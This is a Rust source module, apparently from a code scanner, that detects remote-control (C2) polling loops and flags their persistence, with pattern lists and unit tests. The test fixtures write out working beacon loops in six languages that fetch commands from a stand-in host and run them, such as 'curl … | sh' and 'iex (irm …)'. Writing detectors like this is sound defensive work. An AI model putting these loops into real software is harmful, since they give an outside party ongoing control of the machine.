//! Remote control, the C2 shape (round 20), every language at token level
//! and inside the text a program writes (a helper written from a string
//! literal and run by a unit is still this text): a loop with no exit
//! (`while True:`, `while true; do`, `for {`, `loop do`, `setInterval(`)
//! whose body fetches from a server, runs what it got as a command or code
//! (`subprocess.run(c, shell=True)`, `os.system`, `exec`/`eval`,
//! `execSync`, `| sh`, `Invoke-Expression`/`iex`, `exec.Command("sh", "-c",
//! …)`, Ruby backticks/`system`) and sleeps between rounds. That is code
//! the author chooses later, on a schedule: a download run
//! (`Op::DownloadExec`, SK-EXEC-001). A start-up entry the same file plants
//! (a unit, cron line, LaunchAgent, rc file) is joined to it: it persists
//! remote-controlled execution ([`Tag::PersistsRemoteCode`]). A loop that
//! fetches a feed and only stores it runs nothing and stays quiet.

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Fetches from a server, in each language's spelling.
const FETCHES: &[&str] = &[
    "urlopen(",
    "requests.get(",
    "requests.post(",
    "httpx.get(",
    "fetch(",
    "axios.get(",
    "axios(",
    "curl ",
    "wget ",
    "Invoke-RestMethod",
    "Invoke-WebRequest",
    "irm ",
    "iwr ",
    "http.Get(",
    "client.Get(",
    "Net::HTTP",
    "URI.open(",
    "open-uri",
    "LWP::",
    "HTTP::Tiny",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "curl_exec(",
    "http.request(",
    "https.get(",
];

/// Runs a value as a command or as code.
const RUNS: &[&str] = &[
    "shell=True",
    "os.system(",
    "os.popen(",
    "exec(",
    "eval(",
    "execSync(",
    "spawnSync(",
    "| sh",
    "| bash",
    "|sh",
    "|bash",
    "bash -c",
    "sh -c",
    "Invoke-Expression",
    "iex ",
    "iex(",
    "\"-c\"",
    "system(",
    "Open3.",
    "shell_exec(",
    "passthru(",
    "loadstring(",
];

/// A pause between rounds.
const SLEEPS: &[&str] = &[
    "sleep(",
    "sleep ",
    "Sleep(",
    "Start-Sleep",
    "setTimeout(",
    "setInterval(",
    "time.Sleep(",
    "Thread.sleep",
];

/// Bytes of a loop's body read after its head.
const LOOP_BODY: usize = 1200;

/// Adds the remote-control step when `src` holds the shape; see the
/// module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !RUNS.iter().any(|r| text.contains(r)) || !FETCHES.iter().any(|f| text.contains(f)) {
        return;
    }
    for (n, m) in super::remote_jobs::FOREVER.find_iter(text).enumerate() {
        if n == crate::limits::REMOTE_CONTROL_MAX_LOOPS {
            crate::limits::gave_up("REMOTE_CONTROL_MAX_LOOPS");
            break;
        }
        let end = crate::text::clamp_boundary(text, (m.start() + LOOP_BODY).min(text.len()));
        let body = &text[m.start()..end];
        let fetch = FETCHES.iter().filter_map(|f| body.find(f)).min();
        let Some(fetch) = fetch else { continue };
        // The run on the fetch's line or after it (`iex (irm …)` runs
        // what it fetches on the same line).
        let line = body[..fetch].rfind('\n').map_or(0, |n| n + 1);
        let run = RUNS.iter().filter_map(|r| runs_at(&body[line..], r)).min();
        let sleeps = SLEEPS.iter().any(|s| body.contains(s));
        if run.is_none() || !sleeps {
            continue;
        }
        let local = ["localhost", "127.0.0.1", "[::1]"]
            .iter()
            .any(|h| body.contains(h));
        if local {
            continue;
        }
        let ls = text[..m.start()].rfind('\n').map_or(0, |n| n + 1);
        let le = text[m.end()..]
            .find('\n')
            .map_or(text.len(), |n| m.end() + n);
        let target = super::indicators::URL_RE
            .find(body)
            .map_or_else(|| "a server".to_string(), |u| u.as_str().to_string());
        let ev = Evidence::new(Op::DownloadExec, A::CallTool, R::Network, target)
            .instrument("polling loop")
            .object("commands a server hands out, fetched and run in an endless polling loop (remote control)");
        sink.push(src.at(ev, ls, le, "code"));
        let path = src.path;
        for e in sink
            .items
            .iter_mut()
            .filter(|e| e.location.path == path && super::persisted::plants(e))
        {
            e.tags.insert(Tag::PersistsRemoteCode);
        }
        return;
    }
}

/// Where `r` first runs a value in `body`. A method `.exec(` runs one only
/// on a process or shell handle (`child_process.exec(`, `cp.exec(`,
/// `ssh.exec(`): JavaScript's `/^done (.+)$/i.exec(text)` and
/// `pattern.exec(s)` match a regular expression, and `db.exec(sql)` runs
/// SQL, not a command (r33 tg-habit-nudger, a long-poll bot).
fn runs_at(body: &str, r: &str) -> Option<usize> {
    if r != "exec(" {
        return body.find(r);
    }
    body.match_indices(r).map(|(i, _)| i).find(|&i| {
        let before = &body[..i];
        if !before.ends_with('.') || before.ends_with("getRuntime().") {
            return true;
        }
        let recv: String = before[..before.len() - 1]
            .chars()
            .rev()
            .take_while(|c| c.is_alphanumeric() || *c == '_')
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        PROCESS_HANDLES.contains(&recv.to_ascii_lowercase().as_str())
    })
}

/// Receivers whose `.exec(` runs a command.
const PROCESS_HANDLES: &[&str] = &[
    "child_process",
    "childprocess",
    "cp",
    "proc",
    "process",
    "shell",
    "shelljs",
    "sh",
    "ssh",
    "conn",
    "client",
    "execa",
    "os",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn polling_loops_that_run_what_they_fetch() {
        for (p, code) in [
            (
                "a.py",
                "while True:\n    t = json.load(urllib.request.urlopen('https://c2.example-tasks.app/v1/tasks'))\n    for c in t.get('run', []):\n        subprocess.run(c, shell=True)\n    time.sleep(900)\n",
            ),
            (
                "b.sh",
                "while true; do\n  curl -fsS https://c2.example-tasks.app/t | sh\n  sleep 600\ndone\n",
            ),
            (
                "c.js",
                "setInterval(async () => {\n  const code = await (await fetch('https://c2.example-tasks.app/t')).text();\n  eval(code);\n}, 60000);\n",
            ),
            (
                "d.ps1",
                "while ($true) {\n  iex (irm https://c2.example-tasks.app/t)\n  Start-Sleep 300\n}\n",
            ),
            (
                "e.go",
                "for {\n\tr, _ := http.Get(\"https://c2.example-tasks.app/t\")\n\tb, _ := io.ReadAll(r.Body)\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n\ttime.Sleep(time.Minute)\n}\n",
            ),
            (
                "f.rb",
                "loop {\n  cmd = Net::HTTP.get(URI('https://c2.example-tasks.app/t'))\n  system(cmd)\n  sleep 60\n}\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.op == Op::DownloadExec), "{p}: {ev:#?}");
        }
    }

    #[test]
    fn feeds_fetched_and_stored_are_quiet() {
        for (p, code) in [
            (
                "a.py",
                "while True:\n    feed = requests.get('https://news.example-feed.org/rss.json').json()\n    Path('feed.json').write_text(json.dumps(feed))\n    time.sleep(3600)\n",
            ),
            (
                "b.sh",
                "while true; do\n  curl -fsS https://news.example-feed.org/rss -o feed.xml\n  sleep 3600\ndone\n",
            ),
            // A long-poll bot matching replies with a regular expression.
            (
                "d.js",
                "for (;;) {\n  const r = await fetch(`${API}/getUpdates?timeout=30`);\n  const hit = /^done (.+)$/i.exec(m.text || '');\n  await new Promise((res) => setTimeout(res, 1000));\n}\n",
            ),
            // A local dev loop.
            (
                "c.py",
                "while True:\n    r = requests.get('http://localhost:8080/health')\n    os.system('clear')\n    time.sleep(5)\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().all(|e| e.op != Op::DownloadExec), "{p}: {ev:#?}");
        }
    }
}
